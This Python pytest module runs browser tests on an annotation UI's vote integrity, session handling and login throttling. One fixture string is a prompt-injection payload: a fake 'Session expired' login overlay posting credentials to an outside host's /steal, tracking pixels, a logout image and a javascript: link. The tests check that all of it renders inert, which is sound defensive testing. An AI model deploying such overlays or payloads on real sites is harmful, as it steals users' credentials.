"""Label integrity in a real browser (Debian's chromium), on the real server: a vote lands only on what the
annotator saw, a prompt cannot take over the page, and a session that ended or a login that must wait says so."""

from __future__ import annotations

import json

import httpx
import pytest

from _browser import browser, focus_page, log_in, next_item_rendered, other_host, shown_item, text_of  # noqa: F401
from _labeling_server import Server, client, make_store, make_users
from alignkit.store import open_store
from alignkit.store.agreement import load_votes
from alignkit.store.importer import ImportRow, write_rows

pytestmark = [pytest.mark.browser, pytest.mark.slow]


def votes_of(db: str, name: str, *, arena: bool = False):
    store = open_store(db, create=False)
    try:
        return [v for v in load_votes(store) if v.annotator == name and v.arena == arena]
    finally:
        store.close()


def add_battles(db: str, n: int) -> None:
    store = open_store(db)
    try:
        write_rows(store, [ImportRow(f"battle prompt {i}", "test", [f"first answer {i}", f"second answer {i}"],
                                     ["/specs/sft", "/specs/dpo"], [{"model_name": "sft"}, {"model_name": "dpo"}])
                           for i in range(n)], arena=True)
    finally:
        store.close()


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """One server for the module, with the real display minimum (0.3 s) and login."""
    tmp = tmp_path_factory.mktemp("browser-integrity")
    db = make_store(str(tmp / "labels.db"), tmp, 10)
    add_battles(db, 4)
    creds = make_users(tmp / "users.json", ["racer", "reader", "writer", "leaver", "zed"])
    server = Server(db, users=tmp / "users.json", overlap=1, log=tmp / "server.log", min_display=0.3).start()
    try:
        yield {"db": db, "creds": creds, "url": server.url, "users": tmp / "users.json", "tmp": tmp}
    finally:
        server.stop()


def _side_of(vote) -> str:
    """The side the annotator pressed for a stored vote: a = left as shown."""
    return {"a": "b", "b": "a"}.get(vote.choice, vote.choice) if vote.swapped else vote.choice


def test_a_correction_or_double_tap_never_votes_on_an_unseen_item(browser, served):
    page = browser.new_page()
    requests = []
    page.on("request", lambda r: requests.append(r.url))
    try:
        log_in(page, served["url"], "racer", served["creds"]["racer"])
        seen = []
        for delay_ms in (20, 60, 150):
            item = shown_item(page)
            page.wait_for_timeout(450)  # the annotator reads it: well past the 0.3 s minimum
            seen.append(int(item))
            focus_page(page)
            page.keyboard.press("1")
            page.wait_for_timeout(delay_ms)
            page.keyboard.press("2")  # a correction, 20-150 ms later: must not land on the next item
            next_item_rendered(page, item)
        page.wait_for_timeout(700)  # anything still on its way has arrived by now
        votes = votes_of(served["db"], "racer")
        assert sorted(v.comparison_id for v in votes) == sorted(seen)  # exactly one vote per item seen >= 0.3 s
        assert all(_side_of(v) == "a" for v in votes)  # the first key, on the item it was pressed on

        # The Arena: a double tap of 1 votes once, and the reveal of that battle stays on screen.
        page.get_by_role("tab", name="Arena").click()
        battle = shown_item(page, "ak-arena-prompt")
        page.wait_for_timeout(450)
        focus_page(page)
        page.keyboard.press("1")
        page.wait_for_timeout(20)
        page.keyboard.press("2")
        page.locator("#ak-arena-reveal").get_by_text("You voted").wait_for(timeout=15_000)
        focus_page(page)
        page.keyboard.press("r")  # the models, once the annotator asks (until then the vote can be undone)
        page.locator("#ak-arena-reveal").get_by_text("A was").wait_for(timeout=15_000)
        page.wait_for_timeout(700)
        assert shown_item(page, "ak-arena-prompt") == battle
        (arena_vote,) = votes_of(served["db"], "racer", arena=True)
        assert arena_vote.comparison_id == int(battle) and _side_of(arena_vote) == "a"
        assert "(you voted: A better)" in page.locator("#ak-arena-reveal").inner_text()
        # Next battle, then a key press at once: the new battle has not been on screen for 0.3 s.
        focus_page(page)
        page.keyboard.press("n")
        second = next_item_rendered(page, battle, "ak-arena-prompt")
        page.keyboard.press("1")
        page.wait_for_timeout(700)
        assert len(votes_of(served["db"], "racer", arena=True)) == 1 and second != battle
        assert all(u.startswith(served["url"]) for u in requests)  # no third-party request
    finally:
        page.close()


PHISH = ('<div id="overlay" style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:99999">'
         '<h1>Session expired</h1><form id="phish" action="{host}/steal" method="post"><input name="username" '
         'value="x"><input name="password" type="password" value="y"><button id="phish-go">Log in</button></form>'
         '</div><img src="/logout"><img src="{host}/pixel.gif"><a id="pinger" ping="{host}/ping" href="#top">a link</a>'
         '\n\n**bold** [x](javascript:window.__xss=1) \u202eevil\n\n```python\nprint("<b>hi</b>")\n```')


def test_a_prompt_with_a_fake_form_overlay_and_logout_image_is_literal_text(browser, served, other_host):
    host, hits = other_host
    prompt = PHISH.format(host=host)
    chat = [{"role": "user", "content": "hello <i>there</i>"},
            {"role": "assistant", "content": '<div style="position:fixed;inset:0">covered</div>'},
            {"role": "user", "content": "and now?"}]
    with open(served["tmp"] / "attack.jsonl", "w") as f:
        f.write(json.dumps({"prompt": prompt, "responses": ['<b id="injected">A</b>', "plain B"]}) + "\n")
        f.write(json.dumps({"messages": chat, "responses": ["one", "two"]}) + "\n")
    store = open_store(served["db"])
    from alignkit.store.importer import import_file

    import_file(store, served["tmp"] / "attack.jsonl")
    store.close()
    reader = client(served["url"], ("reader", served["creds"]["reader"]))
    for _ in range(20):  # skip to the attack prompts: the page then serves them first
        cid, shown_prompt, _, _ = reader.predict(api_name="/next_item")
        if "Session expired" in shown_prompt:
            break
        reader.predict(comparison_id=cid, api_name="/skip")
    page = browser.new_page()
    requests = []
    page.on("request", lambda r: requests.append(r.url))
    try:
        log_in(page, served["url"], "reader", served["creds"]["reader"])
        shown_item(page)
        page.wait_for_timeout(800)
        # Literal text, character for character (but the bidi override, made visible).
        assert text_of(page, "#ak-prompt") == prompt.replace("\u202e", "<U+202E>")
        assert {text_of(page, "#ak-left"), text_of(page, "#ak-right")} == {'<b id="injected">A</b>', "plain B"}
        for selector in ("#overlay", "#phish", "#phish-go", "#pinger", "#injected", "#ak-prompt img",
                         "#ak-prompt form", "#ak-prompt a", "#ak-prompt .ak-prompt [style]"):
            assert page.locator(selector).count() == 0, selector
        assert page.locator("#ak-prompt .ak-cc").inner_text() == "<U+202E>"
        # Nothing was requested from the other host, /logout was not requested, the annotator is still in.
        assert hits == [] and not [u for u in requests if "logout" in u or u.startswith(host)]
        assert page.evaluate("fetch('alignkit/session').then(r => r.status)") == 200

        # Markdown, on request: formatting rendered, HTML still text, links and images as written.
        page.locator("#ak-markdown input").check()
        page.wait_for_selector("#ak-prompt .ak-md strong", timeout=15_000)
        assert page.locator("#ak-prompt pre code .ak-hl-nb").count() >= 1  # highlighted code
        md = text_of(page, "#ak-prompt")
        assert '<form id="phish"' in md and "[x](javascript:window.__xss=1)" in md and '<img src="/logout">' in md
        for selector in ("#overlay", "#phish", "#ak-prompt img", "#ak-prompt a", "#ak-prompt .ak-prompt [style]"):
            assert page.locator(selector).count() == 0, selector
        assert page.evaluate("window.__xss") is None and hits == []

        # The chat prompt: one block per turn with its role, the model's turn as text too.
        focus_page(page)
        page.keyboard.press("s")
        page.wait_for_function("() => document.querySelectorAll('#ak-prompt .ak-turn').length === 3", timeout=15_000)
        roles = page.locator("#ak-prompt .ak-role").all_inner_texts()
        assert [r.lower() for r in roles] == ["user", "assistant", "user"]
        assert "covered" in page.locator("#ak-prompt .ak-turn-assistant").inner_text()
        assert page.locator("#ak-prompt .ak-prompt [style]").count() == 0
        # The choice is the annotator's own, kept in their browser: a reload keeps markdown on.
        page.reload(wait_until="domcontentloaded")
        page.wait_for_selector("#ak-prompt .ak-turn .ak-md", timeout=30_000)
        assert page.locator("#ak-markdown input").is_checked()
        # Still logged in, still voting.
        page.wait_for_timeout(450)
        focus_page(page)
        page.keyboard.press("1")
        page.locator("#ak-status").get_by_text("Saved #").wait_for(timeout=15_000)
        assert hits == []
    finally:
        page.close()


def test_a_refused_vote_keeps_the_rationale_and_the_box_shows_its_limit(browser, served):
    writer = client(served["url"], ("writer", served["creds"]["writer"]))
    page = browser.new_page()
    try:
        log_in(page, served["url"], "writer", served["creds"]["writer"])
        item = shown_item(page)
        box = page.locator("#ak-rationale textarea")
        assert box.get_attribute("maxlength") == "10000"
        box.fill("my reasons, typed with care")
        page.locator("#ak-rationale-count").get_by_text("27 / 10000 characters").wait_for(timeout=5_000)
        writer.predict(comparison_id=int(item), api_name="/skip")  # the same annotator, in another window
        page.wait_for_timeout(400)
        page.locator("#ak-vote-a").click()
        page.locator("#ak-status").get_by_text("Not saved").wait_for(timeout=15_000)
        assert box.input_value() == "my reasons, typed with care"
        assert votes_of(served["db"], "writer") == []
        # A vote that goes through clears it.
        item = shown_item(page)
        page.wait_for_timeout(400)
        page.locator("#ak-vote-b").click()
        page.locator("#ak-status").get_by_text("Saved #").wait_for(timeout=15_000)
        assert box.input_value() == ""
        (vote,) = votes_of(served["db"], "writer")
        assert vote.rationale == "my reasons, typed with care" and vote.comparison_id == int(item)
    finally:
        page.close()


def test_a_session_that_ended_says_so_and_logout_is_a_button(browser, served):
    from labeling_ui.users import add_user

    page = browser.new_page()
    try:
        log_in(page, served["url"], "leaver", served["creds"]["leaver"])
        shown_item(page)
        add_user(served["users"], "leaver", "a brand new password")  # an admin resets it: the session ends
        page.wait_for_timeout(450)
        focus_page(page)
        page.keyboard.press("1")
        banner = page.locator("#ak-session-ended")
        banner.wait_for(timeout=15_000)
        assert banner.inner_text().startswith("Your session ended \u2014 log in again.")
        page.wait_for_timeout(500)
        assert votes_of(served["db"], "leaver") == []
        banner.get_by_role("button", name="Log in").click()
        page.wait_for_selector("input[type=password]", timeout=30_000)

        log_in(page, served["url"], "leaver", "a brand new password")
        shown_item(page)
        page.locator("#ak-logout").click()  # logs out this session, back to the login form
        page.wait_for_selector("input[type=password]", timeout=30_000)
        assert page.evaluate("fetch('alignkit/session').then(r => r.status)") == 401
    finally:
        page.close()


def test_a_login_that_must_wait_says_until_when(browser, served):
    for i in range(10):  # strangers guessing zed's password from ten addresses
        transport = httpx.HTTPTransport(local_address=f"127.0.3.{i + 1}")
        r = httpx.Client(transport=transport).post(served["url"] + "/login",
                                                   data={"username": "zed", "password": "guess-123"})
        assert r.status_code == 400
    page = browser.new_page()
    try:
        log_in(page, served["url"], "zed", served["creds"]["zed"])  # zed, from a browser new to that name
        message = page.locator("#ak-login-message")
        message.wait_for(timeout=15_000)
        text = message.inner_text()
        assert text.startswith("Too many failed logins for this user name: try again at ")
        assert any(ch.isdigit() for ch in text.rsplit("at ", 1)[1])
        assert page.locator("#ak-prompt").count() == 0  # not logged in
    finally:
        page.close()


def test_a_server_restart_ends_the_session_and_the_page_says_so(browser, tmp_path):
    db = make_store(str(tmp_path / "labels.db"), tmp_path, 3)
    creds = make_users(tmp_path / "users.json", ["ann"])
    server = Server(db, users=tmp_path / "users.json", log=tmp_path / "server.log", min_display=0.3).start()
    page = browser.new_page()
    try:
        log_in(page, server.url, "ann", creds["ann"])
        shown_item(page)
        server.stop()
        server.start()  # same port; logins live in the server process, so every session is gone
        page.wait_for_timeout(450)
        focus_page(page)
        page.keyboard.press("1")
        page.locator("#ak-session-ended").get_by_text("Your session ended").wait_for(timeout=15_000)
        assert votes_of(db, "ann") == []
    finally:
        page.close()
        server.stop()
